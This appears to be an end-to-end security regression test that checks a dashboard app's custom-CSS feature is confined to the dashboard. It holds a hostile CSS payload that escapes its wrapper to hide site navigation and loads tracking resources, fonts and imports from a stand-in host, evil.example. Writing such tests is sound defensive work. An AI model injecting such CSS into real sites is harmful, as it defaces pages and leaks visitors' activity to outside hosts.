import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { login } from '../integration/helpers/runtime.ts';
import { callApi } from './dashboard-kit.ts';
import { connectBrowser, signedInPage, suiteServer } from './suite.ts';

const STAMP = Date.now();

/**
 * Finding 8's payload (it breaks out of a naive wrapper to restyle the whole page), with attempts to load outside
 * resources, after a rule the dashboard may keep: its own background.
 */
const HOSTILE_CSS = [
  'body { background: rgb(1, 2, 3) }',
  '} body{background:red !important} nav, header{display:none !important} x{',
  '@import url(http://evil.example/import.css);',
  '.dashboard-markdown, div { background-image: url(https://evil.example/track.png) }',
  '@font-face { font-family: Evil; src: url(https://evil.example/font.woff2) }',
].join('\n');

/** The computed look of the page's header and main navigation. */
const chromeStyle = (page: Page) =>
  page.evaluate(() => {
    const look = (element: Element | null) => {
      if (!element) return null;
      const style = getComputedStyle(element);
      return {
        display: style.display,
        background: style.backgroundColor,
        visibility: style.visibility,
        height: element.getBoundingClientRect().height,
      };
    };
    return {
      header: look(document.querySelector('header')),
      nav: look(document.querySelector('nav[aria-label="Main"]')),
      body: getComputedStyle(document.body).backgroundColor,
    };
  });

describe("a dashboard's custom CSS", () => {
  let browser: Browser;
  let page: Page;
  let plainId: number;
  let hostileId: number;
  const outside: string[] = [];

  beforeAll(async () => {
    const { access_token: token } = await login(suiteServer().url, 'admin', 'admin');
    plainId = (
      await callApi<{ id: number }>(token, 'POST', '/api/v1/dashboard/', { dashboard_title: `Plain ${STAMP}` })
    ).id;
    hostileId = (
      await callApi<{ id: number }>(token, 'POST', '/api/v1/dashboard/', {
        dashboard_title: `Restyled ${STAMP}`,
        css: HOSTILE_CSS,
      })
    ).id;
    browser = await connectBrowser();
    page = await signedInPage(browser);
    page.setDefaultTimeout(20_000);
    const own = new URL(suiteServer().url).origin;
    page.on(
      'request',
      (request) =>
        void (
          new URL(request.url()).origin !== own &&
          !request.url().startsWith('data:') &&
          outside.push(request.url())
        ),
    );
  });

  afterAll(async () => {
    await page?.screenshot({ path: 'test-results/e2e-dashboard-css.png', fullPage: true });
    await browser?.close();
  });

  it('styles the dashboard only: the navigation looks as on a dashboard without CSS and nothing loads from outside', async () => {
    // Arrange
    await page.goto(`${suiteServer().url}/superset/dashboard/${plainId}/`);
    await page.getByTestId('dashboard-title').waitFor();
    const plain = await chromeStyle(page);

    // Act
    await page.goto(`${suiteServer().url}/superset/dashboard/${hostileId}/`);
    await page.getByTestId('dashboard-title').waitFor();
    await page.getByTestId('dashboard-custom-css').waitFor({ state: 'attached' });
    const area = page.getByTestId('dashboard-area');

    // Assert
    expect(await chromeStyle(page)).toEqual(plain);
    expect(await area.evaluate((element) => getComputedStyle(element).backgroundColor)).toBe('rgb(1, 2, 3)');
    expect(outside).toEqual([]);
  });
});
